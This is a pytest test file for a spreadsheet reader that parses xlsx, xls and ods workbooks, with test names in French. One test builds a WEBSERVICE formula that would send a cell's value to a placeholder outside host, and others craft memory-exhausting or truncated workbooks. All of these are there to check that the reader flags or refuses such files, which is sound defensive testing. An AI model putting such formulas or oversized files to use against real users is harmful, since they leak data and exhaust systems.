from __future__ import annotations

import datetime
import io
import time

import openpyxl
import pandas as pd
import pytest
from xlsxwriter.workbook import Workbook
from xlsxwriter.worksheet import Worksheet

from data.readers.cell_text import cell_text, number_text, percent_text
from data.readers.grid import Grid, GridKind, Merge, fill_merged
from data.readers.workbook import read_workbook
from data.report import UnreadableFile
from tests.data.readers.workbook_files import (
    HEADINGS,
    KNOWN,
    data_row,
    ods,
    ods_row,
    one_sheet,
    with_part,
    write_table,
    xls,
    xlsx,
)

SHEET = "xl/worksheets/sheet1.xml"


def column(grid: Grid, name: str) -> list[str | None]:
    place = HEADINGS.index(name)
    return [cell if isinstance(cell, str) else None for cell in grid.cells[place][1:]]


def causes(grid: Grid) -> list[tuple[str, str, int | None, str | None]]:
    return [(problem.severity, problem.cause, problem.line, problem.cell) for problem in grid.problems]


def refusal(content: bytes, kind: GridKind = "xlsx", sheet: str | None = None) -> str:
    started = time.perf_counter()
    with pytest.raises(UnreadableFile) as caught:
        read_workbook(content, kind, sheet)
    assert time.perf_counter() - started < 5
    return caught.value.problem.cause


@pytest.mark.parametrize(
    ("content", "kind"),
    [
        (one_sheet(lambda *_: None), "xlsx"),
        (xls([HEADINGS, *[data_row(number) for number in range(1, 5)]]), "xls"),
        (ods(ods_row(*HEADINGS), *[ods_row(*data_row(number)) for number in range(1, 5)]), "ods"),
    ],
)
def test_les_trois_formats_de_classeur_donnent_la_meme_grille(content: bytes, kind: GridKind) -> None:
    grid = read_workbook(content, kind)
    assert column(grid, "valeur") == ["10", "20", "30", "40"]
    assert column(grid, "structure") == ["CSAPA Les Alizés"] * 4
    assert grid.lines.tolist() == [1, 2, 3, 4, 5]
    assert (grid.kind, grid.sheet, grid.sheets, grid.problems) == (kind, "Données", ("Données",), ())
    assert all(dtype == "str" for dtype in grid.cells.dtypes)


def test_un_tableau_qui_commence_plus_loin_garde_ses_noms_de_case() -> None:
    grid = read_workbook(xlsx(lambda workbook: workbook.add_worksheet().write("C5", "mois")), "xlsx")
    assert grid.cells.shape == (1, 3)
    assert grid.cell_name(int(grid.lines[0]), 2) == "C5"


@pytest.mark.parametrize("is_1904", [False, True])
def test_une_vraie_date_s_ecrit_pareil_avec_les_deux_calendriers(is_1904: bool) -> None:
    def write(sheet: Worksheet, workbook: Workbook) -> None:
        months = workbook.add_format({"num_format": "mmm-yy"})
        for number in range(1, 5):
            sheet.write_datetime(number, 0, datetime.datetime(2025, number, 1), months)

    grid = read_workbook(one_sheet(write, date_1904=is_1904), "xlsx")
    assert column(grid, "periode") == ["2025-01-01", "2025-02-01", "2025-03-01", "2025-04-01"]
    assert grid.date_columns == {0}


def test_un_numero_de_date_sans_format_reste_un_nombre() -> None:
    grid = read_workbook(one_sheet(lambda sheet, _: sheet.write(1, 0, 45_658)), "xlsx")
    assert column(grid, "periode")[0] == "45658"
    assert grid.date_columns == frozenset()


def test_une_formule_est_lue_par_son_resultat_enregistre() -> None:
    grid = read_workbook(one_sheet(lambda sheet, _: sheet.write_formula("F2", "=6*7", None, 42)), "xlsx")
    assert column(grid, "valeur")[0] == "42"
    assert grid.problems == ()


def test_une_formule_sans_resultat_est_une_erreur_avec_sa_case() -> None:
    workbook = openpyxl.Workbook()
    workbook.active.append(HEADINGS)
    workbook.active.append(data_row(1, "=6*7"))
    workbook.active.append(data_row(2))
    stream = io.BytesIO()
    workbook.save(stream)
    grid = read_workbook(stream.getvalue(), "xlsx")
    assert causes(grid) == [("error", "formula_without_result", 2, "F2")]
    assert column(grid, "valeur") == [None, "20"]


def test_des_formules_jamais_calculees_qui_valent_zero_sont_a_confirmer() -> None:
    grid = read_workbook(one_sheet(lambda sheet, _: sheet.write_formula("F2", "=6*7")), "xlsx")
    assert causes(grid) == [("confirm", "formula_doubtful", 2, "F2")]


def test_une_formule_qui_appelle_dehors_est_dite_et_seule_sa_valeur_est_lue() -> None:
    formula = '=_xlfn.WEBSERVICE("http://exemple.fr/?"&A2)'
    grid = read_workbook(one_sheet(lambda sheet, _: sheet.write_formula("F2", formula, None, 3)), "xlsx")
    assert causes(grid) == [("information", "formula_outside", 2, "F2")]
    assert column(grid, "valeur")[0] == "3"


def test_une_formule_partagee_avec_resultat_n_est_pas_une_erreur() -> None:
    shared = b'<c r="F2"><f t="shared" ref="F2:F3" si="0">1+1</f><v>2</v></c>'
    content = with_part(
        one_sheet(lambda *_: None), SHEET, lambda body: body.replace(b'<c r="F2"><v>10</v></c>', shared)
    )
    grid = read_workbook(content, "xlsx")
    assert column(grid, "valeur")[0] == "2"
    assert grid.problems == ()


@pytest.mark.parametrize("error", ["#N/A", "#REF!", "#DIV/0!", "#VALUE!"])
def test_une_case_en_erreur_garde_son_erreur(error: str) -> None:
    grid = read_workbook(one_sheet(lambda sheet, _: sheet.write_formula("F3", "=NA()", None, error)), "xlsx")
    assert column(grid, "valeur") == ["10", error, "30", "40"]


def test_une_case_en_erreur_d_un_ancien_classeur_garde_son_erreur() -> None:
    grid = read_workbook(xls([HEADINGS, data_row(1), data_row(2, "#N/A")], hidden=[1]), "xls")
    assert column(grid, "valeur") == ["10", "#N/A"]
    assert grid.hidden_rows == {2}


def test_une_case_en_erreur_d_un_ods_garde_son_erreur() -> None:
    error = (
        '<table:table-cell table:formula="of:=NA()" office:value-type="string" office:string-value="" '
        'calcext:value-type="error"><text:p>#N/A</text:p></table:table-cell>'
    )
    grid = read_workbook(ods(ods_row(*HEADINGS), ods_row(*data_row(1)), ods_row(*data_row(2, error))), "ods")
    assert column(grid, "valeur") == ["10", "#N/A"]


def test_des_lignes_et_colonnes_masquees_sont_lues_et_dites() -> None:
    def hide(sheet: Worksheet, _: Workbook) -> None:
        sheet.set_row(2, None, None, {"hidden": True})
        sheet.set_column(3, 3, None, None, {"hidden": True})

    grid = read_workbook(one_sheet(hide), "xlsx")
    assert grid.hidden_rows == {3}
    assert causes(grid) == [("information", "hidden_columns", None, None)]
    assert column(grid, "valeur") == ["10", "20", "30", "40"]


def test_des_lignes_masquees_d_un_ods_sont_dites() -> None:
    rows = [ods_row(*HEADINGS), ods_row(*data_row(1), attributes='table:visibility="filter"')]
    assert read_workbook(ods(*rows), "ods").hidden_rows == {2}


def merge_structures(sheet: Worksheet, workbook: Workbook) -> None:
    sheet.merge_range("B2:B4", "CSAPA", workbook.add_format({"bold": True}))


def test_des_cases_fusionnees_restent_vides_jusqu_a_ce_qu_on_dise_oui() -> None:
    grid = read_workbook(one_sheet(merge_structures), "xlsx")
    assert grid.merges == (Merge(2, 4, 1, 1),)
    assert column(grid, "structure") == ["CSAPA", None, None, "CSAPA Les Alizés"]
    filled = fill_merged(grid)
    assert column(filled, "structure") == ["CSAPA", "CSAPA", "CSAPA", "CSAPA Les Alizés"]
    assert column(grid, "structure")[1] is None


def test_les_cases_fusionnees_d_un_ods_sont_vues() -> None:
    merged = (
        '<table:table-cell office:value-type="string" table:number-rows-spanned="2">'
        "<text:p>A</text:p></table:table-cell>"
    )
    grid = read_workbook(
        ods(ods_row("structure", "valeur"), ods_row(merged, 1), ods_row("<table:covered-table-cell/>", 2)),
        "ods",
    )
    assert grid.merges == (Merge(2, 3, 0, 0),)


def test_une_case_affichee_en_pourcentage_est_lue_comme_elle_s_affiche() -> None:
    def write(sheet: Worksheet, workbook: Workbook) -> None:
        percent = workbook.add_format({"num_format": "0.0%"})
        sheet.write(1, 5, 0.125, percent)
        sheet.write_blank(2, 6, None, percent)

    grid = read_workbook(one_sheet(write), "xlsx")
    assert column(grid, "valeur") == ["12.5\u00a0%", "20", "30", "40"]
    assert [(repair.cause, repair.count, repair.lines) for repair in grid.repairs] == [
        ("percent_cells", 1, (2,))
    ]


def test_les_nombres_de_classeur_s_ecrivent_sans_exposant_ni_ambiguite() -> None:
    numbers = [12.0, 0.1 + 0.2, 1e22, 1.5e-7, -3.25, 1.234, 1234.567, 0.125]
    assert [number_text(number) for number in numbers] == [
        "12",
        "0.3",
        "10000000000000000000000",
        "0.00000015",
        "-3.25",
        "1.2340",
        "1234.567",
        "0.125",
    ]
    assert percent_text(0.07) == "7\u00a0%"


def test_les_autres_cases_de_classeur_sont_du_texte() -> None:
    assert [cell_text(value) for value in (True, False, "", " a ", datetime.time(9, 5))] == [
        "oui",
        "non",
        None,
        " a ",
        "09:05:00",
    ]
    assert cell_text(datetime.datetime(2025, 3, 1, 14, 30)) == "2025-03-01 14:30:00"
    assert cell_text(datetime.timedelta(hours=36, minutes=30)) == "36:30:00"


def test_des_nombres_ranges_en_texte_restent_tels_quels() -> None:
    grid = read_workbook(one_sheet(lambda sheet, _: sheet.write_string(1, 5, "1\u202f234,5")), "xlsx")
    assert column(grid, "valeur")[0] == "1\u202f234,5"


def several_sheets(workbook: Workbook) -> None:
    workbook.add_worksheet("Lisez-moi").write_column(0, 0, ["Bonjour", "Mode d’emploi"])
    write_table(workbook.add_worksheet("2025"))
    write_table(workbook.add_worksheet("2024"), rows=8)
    codes = workbook.add_worksheet("Listes")
    for row in range(200):
        codes.write_row(row, 0, [f"code {row}", "libellé", "texte"])
    workbook.add_worksheet("Brouillon").hide()


def test_plusieurs_feuilles_possibles_sont_a_confirmer() -> None:
    grid = read_workbook(xlsx(several_sheets), "xlsx", known=KNOWN)
    assert grid.sheet == "2025"
    assert grid.sheets == ("Lisez-moi", "2025", "2024", "Listes", "Brouillon")
    assert [(problem.severity, problem.cause) for problem in grid.problems] == [("confirm", "several_sheets")]
    assert "2024" in grid.problems[0].message
    assert "Listes" not in grid.problems[0].message
    assert "Brouillon" in grid.repairs[0].message


def test_la_feuille_choisie_est_lue_sans_question() -> None:
    grid = read_workbook(xlsx(several_sheets), "xlsx", "2024", KNOWN)
    assert (grid.sheet, len(grid.cells), grid.problems) == ("2024", 9, ())


def test_un_mode_d_emploi_ne_pose_pas_de_question() -> None:
    def fill(workbook: Workbook) -> None:
        workbook.add_worksheet("Lisez-moi").write_column(0, 0, ["Bonjour", "Mode d’emploi"])
        write_table(workbook.add_worksheet("Données"))

    grid = read_workbook(xlsx(fill), "xlsx", known=KNOWN)
    assert (grid.sheet, grid.problems) == ("Données", ())
    assert [repair.cause for repair in grid.repairs] == ["sheet_chosen"]


def test_une_feuille_inconnue_est_refusee_avec_la_liste() -> None:
    with pytest.raises(UnreadableFile, match="Lisez-moi"):
        read_workbook(xlsx(several_sheets), "xlsx", "2023")


def test_un_classeur_vide_est_refuse() -> None:
    assert refusal(xlsx(lambda workbook: workbook.add_worksheet())) == "empty_file"


def test_des_formats_jusqu_a_la_ligne_9000_ne_font_pas_de_lignes() -> None:
    def paint(sheet: Worksheet, workbook: Workbook) -> None:
        grey = workbook.add_format({"bg_color": "#EEEEEE"})
        for row in range(5, 9_000):
            sheet.write_blank(row, 0, None, grey)

    assert len(read_workbook(one_sheet(paint), "xlsx").cells) == 5


def test_un_texte_trop_long_est_refuse_avec_sa_case() -> None:
    grid = read_workbook(one_sheet(lambda sheet, _: sheet.write(2, 6, "x" * 20_000)), "xlsx")
    assert causes(grid) == [("error", "cell_too_long", 3, "G3")]


def test_un_classeur_qui_demande_toute_la_memoire_est_refuse_vite() -> None:
    far = b'<row r="499999"><c r="GR499999"><v>1</v></c></row></sheetData>'
    content = with_part(one_sheet(lambda *_: None), SHEET, lambda body: body.replace(b"</sheetData>", far))
    assert refusal(content) == "too_many_cells"


def test_un_ods_qui_repete_une_case_a_l_infini_est_refuse_vite() -> None:
    cell = (
        '<table:table-cell office:value-type="float" office:value="1" table:number-columns-repeated="16384"/>'
    )
    assert refusal(ods(ods_row(cell, attributes='table:number-rows-repeated="1048576"')), "ods") in {
        "too_many_cells",
        "too_many_columns",
        "cut_file",
    }


def test_une_feuille_abimee_est_refusee() -> None:
    content = with_part(one_sheet(lambda *_: None), SHEET, lambda body: body[: len(body) // 2])
    assert refusal(content) == "cut_file"


@pytest.mark.parametrize("kind", ["xlsx", "xls", "ods"])
def test_des_octets_quelconques_ne_font_pas_planter(kind: GridKind) -> None:
    assert refusal(bytes(range(256)) * 20, kind) == "cut_file"


def test_un_classeur_aux_balises_prefixees_est_lu() -> None:
    def prefix(body: bytes) -> bytes:
        for tag in (b"sheetData", b"row", b"c", b"v", b"f", b"worksheet"):
            body = body.replace(b"<" + tag + b" ", b"<x:" + tag + b" ").replace(
                b"<" + tag + b">", b"<x:" + tag + b">"
            )
            body = body.replace(b"</" + tag + b">", b"</x:" + tag + b">")
        return body.replace(b" xmlns=", b" xmlns:x=")

    content = with_part(
        one_sheet(lambda sheet, _: sheet.write_formula("F3", "=NA()", None, "#N/A")), SHEET, prefix
    )
    assert column(read_workbook(content, "xlsx"), "valeur") == ["10", "#N/A", "30", "40"]


def test_vingt_mille_lignes_se_lisent_en_moins_de_cinq_secondes() -> None:
    content = xlsx(lambda workbook: write_table(workbook.add_worksheet(), rows=20_000), constant_memory=True)
    started = time.perf_counter()
    grid = read_workbook(content, "xlsx")
    assert time.perf_counter() - started < 5
    assert grid.cells.shape == (20_001, 7)
    assert pd.isna(grid.cells).sum().sum() == 0
